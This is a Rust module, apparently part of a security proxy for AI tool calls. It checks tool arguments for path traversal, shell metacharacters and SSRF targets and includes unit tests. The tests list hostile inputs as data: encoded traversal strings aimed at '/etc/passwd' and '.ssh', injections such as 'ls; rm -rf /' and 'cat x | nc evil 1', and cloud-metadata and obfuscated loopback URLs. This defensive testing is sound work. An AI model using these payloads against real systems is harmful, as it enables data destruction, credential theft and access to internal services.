//! Checks on the string arguments of tools the configuration marks as taking paths,
//! shell commands or URLs (OBS-04, OWASP MCP05). Every string in the arguments,
//! nested or not, is checked; the first problem refuses the call before it is
//! forwarded.

use std::net::IpAddr;

use palisade_config::ArgumentChecks;
use serde_json::Value;

pub(crate) use palisade_config::glob_match;

/// The first problem with the arguments of tool `name`, if any.
pub(crate) fn check(checks: &ArgumentChecks, name: &str, args: &Value) -> Option<String> {
    let applies = |globs: &[String]| globs.iter().any(|g| glob_match(g, name));
    let (paths, commands, urls) = (
        applies(&checks.paths),
        applies(&checks.commands),
        applies(&checks.urls),
    );
    if !(paths || commands || urls) {
        return None;
    }
    let mut strings = Vec::new();
    collect(args, "", &mut strings);
    for (at, s) in strings {
        let at = if at.is_empty() { "/".to_owned() } else { at };
        if s.chars()
            .any(|c| c == '\0' || (c.is_control() && !matches!(c, '\n' | '\t')))
        {
            return Some(format!("{at}: control characters"));
        }
        if paths && traverses(s) {
            return Some(format!("{at}: path traversal"));
        }
        if commands && let Some(c) = s.chars().find(|c| ";|&$`<>(){}\n\r\\".contains(*c)) {
            return Some(format!("{at}: shell metacharacter {c:?}"));
        }
        if urls && let Some(why) = forbidden_target(s) {
            return Some(format!("{at}: {why}"));
        }
    }
    None
}

fn collect<'a>(v: &'a Value, path: &str, out: &mut Vec<(String, &'a str)>) {
    match v {
        Value::String(s) => out.push((path.to_owned(), s)),
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                collect(item, &format!("{path}/{i}"), out);
            }
        }
        Value::Object(map) => {
            for (k, item) in map {
                collect(item, &format!("{path}/{k}"), out);
            }
        }
        _ => {}
    }
}

/// Whether a path argument climbs out of where it points: a `..` segment, read the
/// way a server might read it — percent-decoding repeated (`%252e`), overlong UTF-8
/// (`%c0%ae`, `%c0%af`), full-width and look-alike dots and slashes (`．．／`, `∕`),
/// either slash.
fn traverses(s: &str) -> bool {
    let mut text = s.to_owned();
    // Decoded until it stops changing; what is still encoded after 16 rounds is
    // refused as traversal rather than passed unread.
    let mut stable = false;
    for _ in 0..16 {
        let next = percent_decode(&text);
        if next == text {
            stable = true;
            break;
        }
        text = next;
    }
    if !stable {
        return true;
    }
    // NFKC and confusables (full-width dots and slashes become ASCII), hidden
    // characters removed.
    let n = palisade_inspect::normalize(&text);
    let folded: String = n
        .text()
        .chars()
        .map(|c| match c {
            '\u{2215}' | '\u{2044}' | '\u{29f8}' | '\u{ff0f}' => '/',
            '\u{2216}' | '\u{29f9}' | '\u{fe68}' | '\u{ff3c}' => '\\',
            '\u{2024}' | '\u{fe52}' | '\u{ff0e}' => '.',
            c => c,
        })
        .collect();
    // A segment's parameters (`..;x`, as some servers split them) do not hide it.
    folded.split(['/', '\\']).any(|seg| {
        let seg = seg.split(';').next().unwrap_or(seg);
        seg.trim() == ".."
    })
}

/// One round of percent-decoding; overlong encodings of `.`, `/` and `\` (`%c0%ae`,
/// `%c0%af`, `%c1%9c`) decode to them, and what is not UTF-8 after it is read lossily.
pub(crate) fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    // The byte that `%XX` at `i` encodes.
    let hex = |i: usize| {
        (b.get(i) == Some(&b'%'))
            .then(|| b.get(i + 1..i + 3))
            .flatten()
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u8::from_str_radix(h, 16).ok())
    };
    // An overlong UTF-8 form of `.`, `/` or `\` in `n` encoded bytes at `i`
    // (`%c0%ae`, `%e0%80%ae`): the leading byte carries no bits of such a character.
    let overlong = |i: usize, n: usize| {
        let bytes: Vec<u8> = (0..n).map_while(|k| hex(i + 3 * k)).collect();
        let lead_ok = match (n, bytes.first()) {
            (2, Some(&x)) => matches!(x, 0xc0 | 0xc1),
            (3, Some(&x)) => x == 0xe0,
            _ => false,
        };
        if bytes.len() != n || !lead_ok || bytes[1..].iter().any(|c| c & 0xc0 != 0x80) {
            return None;
        }
        let lead_bits = if n == 2 { bytes[0] & 0x1f } else { 0 };
        let value = bytes[1..]
            .iter()
            .fold(u32::from(lead_bits), |v, c| (v << 6) | u32::from(c & 0x3f));
        u8::try_from(value)
            .ok()
            .filter(|c| matches!(c, b'.' | b'/' | b'\\'))
    };
    let mut i = 0;
    while i < b.len() {
        if let Some((c, n)) = [3, 2]
            .into_iter()
            .find_map(|n| overlong(i, n).map(|c| (c, n)))
        {
            out.push(c);
            i += 3 * n;
        } else if let Some(x) = hex(i) {
            out.push(x);
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Host names that resolve to loopback by design (wildcard DNS services made for
/// local testing, and for rebinding). Other names are resolved only with
/// `resolve_names` ([`url_names`]); egress control at the upstream is what stops the
/// rest.
const LOOPBACK_NAMES: [&str; 6] = [
    "localtest.me",
    "lvh.me",
    "vcap.me",
    "nip.io",
    "sslip.io",
    "xip.io",
];

/// A string read as a URL the way `forbidden_target` reads it: `None` when it is not
/// one, the reason when it cannot be read.
fn read_url(s: &str) -> Option<Result<reqwest::Url, &'static str>> {
    // WHATWG drops tabs and line breaks anywhere in a URL before reading it.
    let compact: String = s
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let trimmed = compact.trim();
    // A scheme followed by a slash (`http:/x`, `http:\\x`, `file:/etc`), or http(s)
    // with anything after it (`http:127.0.0.1` reads as `http://127.0.0.1/`): a URL
    // as parsers read it; `note: hello` is not one.
    let has_scheme = trimmed.split_once(':').is_some_and(|(scheme, rest)| {
        !scheme.is_empty()
            && scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
            && (rest.starts_with(['/', '\\'])
                || scheme.eq_ignore_ascii_case("http")
                || scheme.eq_ignore_ascii_case("https"))
    }) && !starts_with_address(trimmed);
    let text = if has_scheme {
        trimmed.to_owned()
    } else if starts_with_address(trimmed) {
        format!("http://{trimmed}")
    } else {
        return None;
    };
    // Parsers disagree on a backslash (WHATWG reads `\\` as `/`, curl as a byte of the
    // user name) and so on where the host is: refused.
    if text.contains('\\') {
        return Some(Err("a backslash in a URL"));
    }
    // What looks like a URL but cannot be read as one is not let through unread.
    Some(reqwest::Url::parse(&text).map_err(|_| "a URL that cannot be read"))
}

/// Why a URL argument may not be fetched: a scheme other than http(s), credentials in
/// the URL, or a host that is loopback, private, link-local (cloud metadata) or
/// otherwise internal. The URL is read as browsers and most HTTP clients read it
/// (WHATWG: `127.1`, `0177.0.0.1`, `0x7f.1`, percent-encoded hosts, `http:\\host`).
/// A string without a scheme that starts with an address (`127.0.0.1:6379`) is read
/// as an http URL. Names are not resolved here.
pub(crate) fn forbidden_target(s: &str) -> Option<&'static str> {
    let url = match read_url(s)? {
        Ok(url) => url,
        Err(why) => return Some(why),
    };
    if !matches!(url.scheme(), "http" | "https") {
        return Some("only http and https URLs are allowed");
    }
    if !url.username().is_empty() || url.password().is_some() {
        return Some("credentials in a URL");
    }
    let internal = match url.host()? {
        url::Host::Domain(name) => {
            let name = name.trim_end_matches('.').to_ascii_lowercase();
            if name == "localhost"
                || name.ends_with(".localhost")
                || name.ends_with(".internal")
                || name.ends_with(".local")
                || LOOPBACK_NAMES
                    .iter()
                    .any(|l| name == *l || name.ends_with(&format!(".{l}")))
            {
                return Some("an internal host");
            }
            false
        }
        url::Host::Ipv4(v4) => internal_v4(v4),
        url::Host::Ipv6(v6) => internal_v6(v6),
    };
    internal.then_some("a loopback, private, link-local or reserved address")
}

/// The host names (not addresses) of the URLs among the arguments of tool `name`, if
/// the configuration marks it as taking URLs and asks for names to be resolved: each
/// with where it is in the arguments and the port its URL reaches. Read after
/// [`check`] passed, so each is an http(s) URL `forbidden_target` let through.
pub(crate) fn url_names(
    checks: &ArgumentChecks,
    name: &str,
    args: &Value,
) -> Vec<(String, String, u16)> {
    if !checks.resolve_names || !checks.urls.iter().any(|g| glob_match(g, name)) {
        return Vec::new();
    }
    let mut strings = Vec::new();
    collect(args, "", &mut strings);
    let mut out: Vec<(String, String, u16)> = Vec::new();
    for (at, s) in strings {
        let Some(Ok(url)) = read_url(s) else { continue };
        if let Some(url::Host::Domain(host)) = url.host()
            && let Some(port) = url.port_or_known_default()
            && !out.iter().any(|(_, h, p)| h == host && *p == port)
        {
            let at = if at.is_empty() { "/".to_owned() } else { at };
            out.push((at, host.to_owned(), port));
        }
    }
    out
}

/// Whether `ip` is loopback, private, link-local or otherwise not a public address.
pub(crate) fn internal(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => internal_v4(v4),
        IpAddr::V6(v6) => internal_v6(v6),
    }
}

/// Whether `s` begins with an IP address or `localhost` (then a port, a path or
/// nothing): a target written without its scheme. Forms clients read as IPv4 count
/// too (`127.1`, `0x7f000001`, `2130706433`), but not a bare small number (`10:30`).
fn starts_with_address(s: &str) -> bool {
    let host = s
        .split(['/', '?', '#'])
        .next()
        .unwrap_or("")
        .rsplit_once(':')
        .filter(|(h, port)| !h.contains(':') && port.bytes().all(|b| b.is_ascii_digit()))
        .map_or(s.split(['/', '?', '#']).next().unwrap_or(""), |(h, _)| h);
    let ipv4_like = host.contains('.')
        || host.starts_with("0x")
        || host.starts_with("0X")
        || (host.len() >= 8 && host.bytes().all(|b| b.is_ascii_digit()));
    if ipv4_like
        && reqwest::Url::parse(&format!("http://{host}/"))
            .is_ok_and(|u| matches!(u.host(), Some(url::Host::Ipv4(_))))
    {
        return true;
    }
    literal_address(s)
}

/// An address written as itself (`127.0.0.1`, `[::1]`, `localhost`), then a port,
/// a path or nothing.
fn literal_address(s: &str) -> bool {
    let host = s
        .split(['/', '?', '#'])
        .next()
        .unwrap_or("")
        .trim_start_matches('[');
    let host = host.split(']').next().unwrap_or(host);
    let host = match host.rsplit_once(':') {
        Some((h, port)) if port.chars().all(|c| c.is_ascii_digit()) && !h.contains(':') => h,
        _ => host,
    };
    host.eq_ignore_ascii_case("localhost") || host.parse::<IpAddr>().is_ok()
}

fn internal_v4(v4: std::net::Ipv4Addr) -> bool {
    let [a, b, c, _] = v4.octets();
    v4.is_loopback()
        || v4.is_private()
        || v4.is_link_local()
        || v4.is_broadcast()
        || v4.is_multicast()
        || a == 0 // "this network", 0.0.0.0/8
        || a >= 240 // reserved
        || (a == 100 && (64..128).contains(&b)) // shared address space (CGNAT)
        || (a == 198 && (b == 18 || b == 19)) // benchmarking
        || (a == 192 && b == 0 && c == 0) // IETF protocol assignments
}

fn internal_v6(v6: std::net::Ipv6Addr) -> bool {
    let seg = v6.segments();
    // An IPv4 address inside: mapped (::ffff:a.b.c.d), compatible (::a.b.c.d),
    // NAT64 (64:ff9b::a.b.c.d) and 6to4 (2002:aabb:ccdd::).
    let embedded = |hi: u16, lo: u16| {
        let [h1, h2] = hi.to_be_bytes();
        let [l1, l2] = lo.to_be_bytes();
        std::net::Ipv4Addr::new(h1, h2, l1, l2)
    };
    let mapped_or_compatible = seg[..5] == [0; 5] && (seg[5] == 0xffff || seg[5] == 0);
    let nat64 = seg[..6] == [0x64, 0xff9b, 0, 0, 0, 0];
    let inner = if mapped_or_compatible || nat64 {
        Some(embedded(seg[6], seg[7]))
    } else if seg[0] == 0x2002 {
        Some(embedded(seg[1], seg[2]))
    } else {
        None
    };
    v6.is_loopback()
        || v6.is_unspecified()
        || v6.is_multicast()
        || (seg[0] & 0xfe00) == 0xfc00 // unique local
        || (seg[0] & 0xffc0) == 0xfe80 // link-local
        || inner.is_some_and(internal_v4)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn checks() -> ArgumentChecks {
        ArgumentChecks {
            paths: vec!["read_*".into(), "write_file".into()],
            commands: vec!["run".into()],
            urls: vec!["fetch*".into()],
            resolve_names: false,
        }
    }

    #[test]
    fn obs_04_host_names_are_listed_for_resolution_only_when_asked() {
        let args = json!({"a": "https://Example.COM/x", "b": ["http://example.com:8080/",
            "https://example.com/again", "http://10.0.0.1/", "not a url", "git@host:repo"]});
        assert!(
            url_names(&checks(), "fetch", &args).is_empty(),
            "off by default"
        );
        let on = ArgumentChecks {
            resolve_names: true,
            ..checks()
        };
        assert!(url_names(&on, "run", &args).is_empty(), "URL tools only");
        assert_eq!(
            url_names(&on, "fetch_url", &args),
            [
                ("/a".to_owned(), "example.com".to_owned(), 443),
                ("/b/0".to_owned(), "example.com".to_owned(), 8080),
            ]
        );
    }

    #[test]
    fn globs() {
        assert!(glob_match("read_*", "read_file"));
        assert!(glob_match("*_file", "read_file"));
        assert!(glob_match("a*b*c", "axxbyyc"));
        assert!(!glob_match("read_*", "write_file"));
        assert!(glob_match("run", "run") && !glob_match("run", "runner"));
    }

    #[test]
    fn obs_04_path_traversal_is_refused() {
        let c = checks();
        for p in [
            "../etc/passwd",
            "/srv/data/../../root/.ssh",
            "a\\..\\b",
            "%2e%2e/secret",
            "x\0y",
            "%252e%252e/secret",
            "..%c0%afsecret",
            "%c0%ae%c0%ae/secret",
            "\u{ff0e}\u{ff0e}/secret",
            "..\u{2215}secret",
            "..\u{ff0f}secret",
            "a/.. /b",
            "%252525252E%252525252E/secret",
            "%e0%80%ae%e0%80%ae/secret",
            "..;/secret",
        ] {
            assert!(
                check(&c, "read_file", &json!({"path": p})).is_some(),
                "{p:?}"
            );
        }
        assert!(check(&c, "read_file", &json!({"path": "/srv/data/report..txt"})).is_none());
        assert!(
            check(&c, "list_dir", &json!({"path": "../x"})).is_none(),
            "not marked"
        );
    }

    #[test]
    fn obs_04_shell_metacharacters_are_refused() {
        let c = checks();
        for cmd in [
            "ls; rm -rf /",
            "cat x | nc evil 1",
            "echo $(id)",
            "a && b",
            "`id`",
            "x > /etc/y",
        ] {
            assert!(check(&c, "run", &json!({"argv": [cmd]})).is_some(), "{cmd}");
        }
        assert!(check(&c, "run", &json!({"argv": ["ls", "-la", "/tmp"]})).is_none());
    }

    #[test]
    fn obs_04_ssrf_targets_are_refused() {
        let c = checks();
        for u in [
            "http://127.0.0.1/admin",
            "http://169.254.169.254/latest/meta-data/",
            "http://10.0.0.5:8080/",
            "http://[::1]/",
            "http://localhost:6379/",
            "http://2130706433/",
            "http://0x7f000001/",
            "file:///etc/passwd",
            "https://user:pw@example.com/",
            "http://[fd00::1]/",
            // Read as a browser reads them, each is 127.0.0.1 or inside.
            "http://127.1/",
            "http://0177.0.0.1/",
            "http://0x7f.1/",
            "http://017700000001/",
            "http://%31%32%37.0.0.1/",
            "http:/127.0.0.1/x",
            "http:\\\\127.0.0.1/x",
            "http://127.0.0.1\\admin",
            "HTTP://LOCALHOST/",
            "127.0.0.1:6379",
            "localhost:8080/admin",
            "[::1]:80",
            "http://[::127.0.0.1]/",
            "http://[::ffff:0:0]/",
            "http://[::ffff:10.0.0.1]/",
            "http://[64:ff9b::a9fe:a9fe]/",
            "http://[2002:7f00:1::]/",
            "http://198.18.0.1/",
            "http://0.1.2.3/",
            "http://240.0.0.1/",
            "http://localtest.me/",
            "http://127.0.0.1.nip.io/",
            "gopher://example.com/",
            "file:/etc/passwd",
            "h\ttp://127.0.0.1/",
            "http://127.0.\n0.1/",
            "http:127.0.0.1/admin",
            "https:[::1]/",
            "http://[::1",
            "http://example.com\\@127.0.0.1:47490/x",
            "127.1:47490/x",
            "0x7f000001:47490/x",
            "2130706433:47490/x",
        ] {
            assert!(check(&c, "fetch", &json!({"url": u})).is_some(), "{u}");
        }
        for ok in [
            "https://example.com/page?q=1",
            "just some text",
            "note: hello",
            "example.com",
            "GET",
            "https://8.8.8.8/",
            "https://[2001:4860:4860::8888]/",
            "10:30",
        ] {
            assert!(check(&c, "fetch", &json!({"url": ok})).is_none(), "{ok}");
        }
    }
}
